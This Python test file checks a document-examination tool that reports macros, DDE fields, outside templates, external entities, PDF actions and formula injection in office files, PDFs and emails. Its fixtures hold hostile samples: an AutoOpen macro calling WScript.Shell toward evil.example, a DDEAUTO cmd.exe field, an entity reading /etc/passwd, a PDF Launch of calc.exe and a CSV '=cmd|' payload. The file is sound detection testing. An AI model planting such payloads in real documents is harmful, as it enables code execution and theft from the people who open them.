"""What files hold and would do: office files old and new, PDFs, messages, markup, tables, recordings; ruins of them break no reader."""

from __future__ import annotations

import io
import random
import struct
import wave
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import pytest

from evidence.examine.inside import mails, officefacts, oldoffice, oldwords, outlook, pdffacts, recordings, textfacts, vba
from evidence.examine.inside.archives import Listing
from evidence.examine.inside.compound import MARK, Compound
from evidence.examine.inside.entry import BROKEN
from evidence.examine.inside.factlist import MOST, Fact, add, sentence
from evidence.examine.preview import examine_object
from evidence.examine.report import Report
from tests.evidence.examine import samples
from tests.evidence.examine.jails import needs_jail

END, FREE, FAT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def compound(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A compound file as MS-CFB has it: sectors of 512 bytes, every stream long enough to lie outside of the mini stream."""
    paths = dict.fromkeys([*storages, *streams])
    paths |= dict.fromkeys(parent for path in [*paths] for parent in parents(path))
    order = ["", *paths]
    sectors: list[bytes] = []
    fat: list[int] = []

    def store(data: bytes) -> int:
        first, pieces = len(sectors), [data[at : at + 512].ljust(512, b"\0") for at in range(0, len(data), 512)]
        fat.extend([*range(first + 1, first + len(pieces)), END])
        sectors.extend(pieces)
        return first

    directory = b""
    for path in order:
        children = [number for number, one in enumerate(order) if one and one.rpartition("/")[0] == path]
        siblings = [number for number, one in enumerate(order) if one and one.rpartition("/")[0] == path.rpartition("/")[0]]
        following = next((number for number in siblings if path and number > order.index(path)), FREE)
        data = streams[path].ljust(4096, b"\0") if path in streams else b""
        name, kind = path.rpartition("/")[2] or "Root Entry", 2 if path in streams else 1 if path else 5
        directory += name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 2 * len(name) + 2, kind, 1)
        directory += struct.pack("<III", FREE, following, next(iter(children), FREE)) + bytes(36)
        directory += struct.pack("<III", store(data) if data else END, len(data), 0)
    directory_at = store(directory)
    sectors.append(struct.pack(f"<{len(fat) + 1}I", *fat, FAT).ljust(512, b"\xff"))
    head = MARK + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<10I", 0, 1, directory_at, 0, 4096, END, 0, END, 0, len(sectors) - 1) + b"\xff" * 432
    return head + b"".join(sectors)


def parents(path: str) -> list[str]:
    parts = path.split("/")[:-1]
    return ["/".join(parts[: number + 1]) for number in range(len(parts))]


def packed(text: bytes) -> bytes:
    """Compressed as MS-OVBA 2.4.1 has it, in chunks of literals."""
    out = b"\x01"
    for at in range(0, len(text), 3600):
        tokens = b"".join(b"\0" + text[at : at + 3600][n : n + 8] for n in range(0, len(text[at : at + 3600]), 8))
        out += struct.pack("<H", 0xB000 | (len(tokens) - 1)) + tokens
    return out


def project(source: bytes) -> dict[str, bytes]:
    """The streams of a VBA project with one module."""
    directory = struct.pack("<HIIH", 9, 4, 1, 0) + struct.pack("<HI", 0x1A, 7) + b"Module1" + struct.pack("<HII", 0x31, 4, 3)
    return {"VBA/dir": packed(directory), "VBA/Module1": b"xxx" + packed(source)}


MACRO = b'Sub AutoOpen()\r\n CreateObject("WScript.Shell").Run "http://evil.example/canary"\r\nEnd Sub\r\n'


def test_a_compound_file_is_read_by_paths() -> None:
    held = Compound(compound({"a": b"one", "folder/b": b"two" * 3000}, ("empty",)))
    assert (sorted(held.names()), sorted(held.storages())) == (["a", "folder/b"], ["empty", "folder"])
    assert (held.read("folder/b", 6), held.read("a", 3), held.size("folder/b")) == (b"twotwo", b"one", 9000)
    with pytest.raises(KeyError):
        held.read("c")


def test_macros_are_named_with_what_starts_them() -> None:
    found: list[Fact] = []
    vba.facts_of(Compound(compound(project(MACRO))), "VBA/", found)
    assert found == [
        ("link", "Address in a macro", "http://evil.example/canary"),
        ("macro", "Macros", "Module1"),
        ("macro", "Starts by itself", "AutoOpen"),
        ("macro", "Calls", "createobject, shell, wscript"),
    ]
    assert sentence(found) == "Holds references to outside addresses, macros. Nothing of it was run or fetched."


def test_compression_with_copies_is_undone() -> None:
    """The examples of MS-OVBA 3.2.2 and 3.2.3, the first cut short."""
    assert (
        vba.decompress(bytes.fromhex("01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E"))
        == b"abcdefghijklmnopqrstuv."
    )
    assert vba.decompress(bytes.fromhex("01 03 B0 02 61 45 00")) == b"a" * 73
    assert vba.decompress(b"no") == b""


def test_an_old_workbook_tells_macro_sheets_hidden_sheets_and_links() -> None:
    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    def sheet(name: bytes, hidden: int, sort: int) -> bytes:
        return record(0x85, struct.pack("<IBBBB", 0, hidden, sort, len(name), 0) + name)

    book = sheet(b"Macro1", 0, 1) + sheet(b"Secret", 2, 0) + record(0x1AE, struct.pack("<HHB", 1, 8, 0) + b"cmd\x03/c x")
    found = oldoffice.facts(Compound(compound({"Workbook": book, "ObjectPool/_12/\x01Ole10Native": bytes(6) + b"a.lnk\0C:\\a.lnk\0"})))
    assert ("macro", "Macro sheet", "Macro1") in found
    assert ("structure", "Hidden sheet", "Secret") in found
    assert ("action", "Exchange of data (DDE)", "cmd | /c x") in found
    assert ("embedded", "Embedded file", "a.lnk from C:\\a.lnk") in found


def test_the_words_of_old_documents_are_read() -> None:
    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    text = b"Plain \x13 HYPERLINK x \x14link\x15 words.\r"
    wide = "caf\u00e9".encode("utf-16-le")
    pieces = struct.pack("<III", 0, len(text), len(text) + 4)
    pieces += struct.pack("<HIH", 0, 0x40000000 | 2 * 1024, 0) + struct.pack("<HIH", 0, 2048, 0)
    head = bytearray(1024)
    head[0x1A2:0x1AA] = struct.pack("<II", 0, 5 + len(pieces))
    streams = {"WordDocument": bytes(head) + text.ljust(1024, b"\0") + wide, "0Table": b"\x02" + struct.pack("<I", len(pieces)) + pieces}
    assert oldwords.words(Compound(compound(streams))) == "Plain link words.\ncaf\u00e9"
    head[10:12] = struct.pack("<H", 0x0100)
    assert oldwords.words(Compound(compound({**streams, "WordDocument": bytes(head)}))) == ""
    slides = struct.pack("<HHI", 0xF, 1000, 30) + struct.pack("<HHI", 0, 0x0FA8, 5) + b"First" + struct.pack("<HHI", 0, 0x0FA0, 8) + wide
    assert oldwords.words(Compound(compound({"PowerPoint Document": slides}))) == "First\ncaf\u00e9"
    table = struct.pack("<II", 2, 2) + struct.pack("<HB", 3, 0) + b"one" + struct.pack("<HB", 6, 0) + b"two"
    book = record(0xFC, table) + record(0x3C, b"\x01" + "thr".encode("utf-16-le")) + record(0x0A, b"")
    assert oldwords.words(Compound(compound({"Workbook": book}))) == "one\ntwothr"  # a string that goes on in the next record
    assert oldwords.words(Compound(compound({"Workbook": record(0x2F, b"x") + book}))) == ""


def test_a_new_office_file_tells_templates_fields_entities_and_what_is_inside() -> None:
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b'<w:instrText>DDEAUTO c:\\\\cmd.exe "/k x"</w:instrText><!ENTITY x SYSTEM "file:///etc/passwd">',
        "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" Target="http://t.example/a.dotm" TargetMode="External"/>',
        "word/vbaProject.bin": compound(project(MACRO)),
        "word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": bytes(6) + b"b.exe\0"}),
        "xl/workbook.xml": b'<sheet name="Secret" sheetId="1" state="veryHidden"/>',
    }
    found = officefacts.facts(io.BytesIO(samples.zip_of(parts)))
    assert [(kind, label) for kind, label, _ in found][:4] == [
        ("link", "Address in a macro"),
        ("macro", "Macros"),
        ("macro", "Starts by itself"),
        ("macro", "Calls"),
    ]
    assert ("link", "Template from outside", "http://t.example/a.dotm") in found
    assert ("action", "Exchange of data (DDE)", 'DDEAUTO c:\\\\cmd.exe "/k x"') in found
    assert ("link", "Entity from outside", "x: file:///etc/passwd") in found
    assert ("structure", "Hidden sheet", "Secret") in found
    assert ("embedded", "Embedded file", "b.exe") in found


def test_a_pdf_tells_its_actions_even_in_packed_objects_and_disguised_names() -> None:
    hidden = zlib.compress(b"<< /S /Launch /F (calc.exe) >> << /URI (http://evil.example/canary) >>")
    data = samples.pdf(["Words"]) + b"<< /J#61vaScript (app.alert(1)) /OpenAction 1 0 R >>\nstream\n" + hidden + b"\nendstream"
    found = pdffacts.in_bytes(io.BytesIO(data))
    assert {("action", "JavaScript"), ("action", "Starts a program"), ("action", "Acts when opened")} <= {
        (k, label) for k, label, _ in found
    }
    assert ("link", "Address", "http://evil.example/canary") in found
    assert ("structure", "Pages", "1") in pdffacts.in_document(io.BytesIO(samples.pdf(["Words"])))
    assert pdffacts.in_document(io.BytesIO(b"%PDF-1.4 nothing")) == []


def test_a_message_tells_head_words_parts_and_digests() -> None:
    message = EmailMessage()
    message["From"], message["Subject"] = "=?utf-8?q?J=C3=BCrgen?= <j@x.example>", "Hello"
    message.set_content("Plain words.")
    message.add_alternative("<style>x</style><b>Bold</b> <img src='https://t.example/p.gif'>", subtype="html")
    message.add_attachment(b"data", maintype="application", subtype="octet-stream", filename="../../a.bin")
    parsed = mails.read(io.BytesIO(message.as_bytes()))
    assert mails.is_mail(message.as_bytes())
    assert not mails.is_mail(b"Dear: friend\nwords")
    found, listed = mails.facts(parsed), mails.listing(parsed)
    assert ("header", "From", "Jürgen <j@x.example>") in found
    assert ("link", "Address in its HTML", "https://t.example/p.gif") in found
    assert [(name, kind) for name, _, kind, _, _ in listed.entries][-1] == ("../../a.bin", "attachment")
    assert listed.entries[-1][4] == "3a6eb0790f39ac87c94f3856b2dd2c5d110e6811602261a9a923d3bb23adc8b7"
    assert mails.words(parsed).split() == ["Plain", "words.", "Bold"]


def test_an_outlook_message_tells_the_same() -> None:
    def wide(text: str) -> bytes:
        return text.encode("utf-16-le")

    inner = "__attach_version1.0_#00000000/__substg1.0_3701000D"
    held = Compound(
        compound(
            {
                "__properties_version1.0": b"p",
                "__substg1.0_0037001F": wide("The bill"),
                "__substg1.0_0C1A001F": wide("J. Canary"),
                "__substg1.0_1000001F": wide("Outer words."),
                "__substg1.0_007D001F": wide("Received: from a by b\r\n\r\n"),
                f"{inner}/__substg1.0_0037001F": wide("Forwarded"),
                f"{inner}/__substg1.0_1000001F": wide("Inner words."),
                "__attach_version1.0_#00000001/__substg1.0_3707001F": wide("bill.pdf"),
                "__attach_version1.0_#00000001/__substg1.0_37010102": b"MZ" + bytes(5000),
            }
        )
    )
    assert outlook.is_message(held)
    assert {("header", "From", "J. Canary"), ("header", "Subject", "The bill"), ("header", "Received", "from a by b")} <= set(
        outlook.facts(held)
    )
    words = outlook.words(held).replace("\0", "")
    assert words.split() == ["Outer", "words.", "Inner", "words."]
    listed: Listing = outlook.listing(held)
    assert [(name.replace("\0", ""), kind, bool(sha)) for name, _, kind, _, sha in listed.entries] == [
        ("Forwarded", "message", False),
        ("bill.pdf", "attachment", True),
    ]
    assert "Named .pdf" in listed.entries[1][3]


@pytest.mark.parametrize(
    ("data", "media_type", "fact"),
    [
        (b"<html><script>x</script>", "text/html", ("action", "Script", "1 time")),
        (b'<svg onload="x()"/>', "image/svg+xml", ("action", "Script on an event", "1 time")),
        (b'<meta http-equiv="refresh" content="0;url=http://e.example/x">', "text/html", ("link", "Address", "http://e.example/x")),
        (b'<!DOCTYPE a [<!ENTITY b "ccc">]><a>&b;</a>', "text/xml", ("structure", "Entity that could grow", "b: ccc")),
        (b"{\\rtf1{\\*\\template http://e.example/t}}", "application/rtf", ("link", "Template from outside", "http://e.example/t")),
        (b"[InternetShortcut]\r\nURL=http://e.example\r\n", "text/plain", ("link", "Address of a shortcut", "http://e.example")),
        (b"WEB\n1\nhttp://e.example/q\n", "text/plain", ("link", "Query of a web page", "http://e.example/q")),
        (b"a,=cmd|'/c calc'!A0\n", "text/csv", ("action", "Exchange of data (DDE)", "=cmd|'/c calc'!A0")),
    ],
)
def test_texts_that_a_program_obeys(data: bytes, media_type: str, fact: Fact) -> None:
    assert fact in textfacts.facts(io.BytesIO(data), media_type)


def test_plain_words_and_numbers_give_no_fact() -> None:
    for harmless in (b"- a list\n- of -things +1\n", b"a,b\n-5,+3\n", b"Dear friend, see you | soon", b""):
        assert textfacts.facts(io.BytesIO(harmless), "text/plain") == []


def test_recordings_tell_length_and_coding() -> None:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(32000))
    data = out.getvalue()
    assert recordings.facts(io.BytesIO(data), data[:4096], data[-1024:], len(data)) == [
        ("media", "Sound track", "PCM, 1 channels, 8000 Hz"),
        ("media", "Duration", "0:00:02.0"),
    ]

    def box(name: bytes, *content: bytes) -> bytes:
        inside = b"".join(content)
        return struct.pack(">I4s", 8 + len(inside), name) + inside

    track = box(b"tkhd", bytes(76), struct.pack(">II", 1920 << 16, 1080 << 16))
    described = box(b"stsd", bytes(8), struct.pack(">I4s", 16, b"avc1"), bytes(8))
    media = box(b"mdia", box(b"hdlr", bytes(8), b"vide", bytes(12)), box(b"minf", box(b"stbl", described)))
    film = box(b"ftyp", b"isom", bytes(4)) + box(
        b"moov", box(b"mvhd", bytes(12), struct.pack(">II", 1000, 61500)), box(b"trak", track, media)
    )
    assert recordings.facts(io.BytesIO(film), film, b"", len(film)) == [
        ("media", "Brand", "isom"),
        ("media", "Duration", "0:01:01.5"),
        ("media", "Picture track", "H.264, 1920 by 1080"),
    ]


def test_the_list_of_facts_has_an_end_and_lines_that_can_be_printed() -> None:
    found: list[Fact] = []
    for number in range(MOST + 50):
        add(found, "link", "Link", f"http://x.example/{number}\x00\u202e\n")
    assert len(found) == MOST
    assert all(value.isprintable() for _, _, value in found)
    assert sentence([("structure", "Pages", "3"), ("media", "Duration", "1")]) == ""


@needs_jail
def test_ruins_of_every_kind_break_no_reader() -> None:
    """In the process of the test itself, where a reader that raises anything unexpected is seen; then one in the jail."""
    chance = random.Random(5)
    made = {
        "compound": compound({"Workbook": bytes(600), "Macros/VBA/dir": packed(b"x" * 50), "WordDocument": b"\x13DDE x\x14" * 20}),
        "office": samples.zip_of({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": compound(project(MACRO))}),
        "pdf": samples.pdf(["a"]),
    }
    readers = {
        "compound": lambda data: (oldoffice.facts(Compound(data)), oldwords.words(Compound(data))),
        "office": lambda data: officefacts.facts(io.BytesIO(data)),
        "pdf": lambda data: pdffacts.in_bytes(io.BytesIO(data)),
    }
    for name, whole in made.items():
        for _ in range(60):
            data = bytearray(whole)
            for _ in range(6):
                data[chance.randrange(len(data))] = chance.randrange(256)
            try:
                readers[name](bytes(data[: chance.randrange(64, len(data) + 1)]))
            except (*BROKEN, zipfile.BadZipFile):
                continue
    report: Report = examine_object(iter([made["compound"][:700]]), 700, "", "a.doc")
    assert report.state == "done"


def test_real_files_of_the_collection_tell_what_they_are_known_for(shared: Path | None) -> None:
    if shared is None:
        pytest.skip("the real files are not here; the same readers are tested above on files of our own")
    office = shared / "hostile" / "office"
    old = oldoffice.facts(Compound((office / "sample_with_lnk_to_calc.doc").read_bytes()))
    assert ("embedded", "Embedded file", "calc.exe from C:\\Windows\\System32\\calc.exe") in old
    macros = oldoffice.facts(Compound((office / "autostart-encrypt-standardpassword.xls").read_bytes()))
    assert ("macro", "Starts by itself", "Auto_Open") in macros
    with (office / "remote_template.docx").open("rb") as file:
        assert ("link", "Template from outside", "http://127.0.0.1:18099/canary/dev/template.dotm") in officefacts.facts(file)
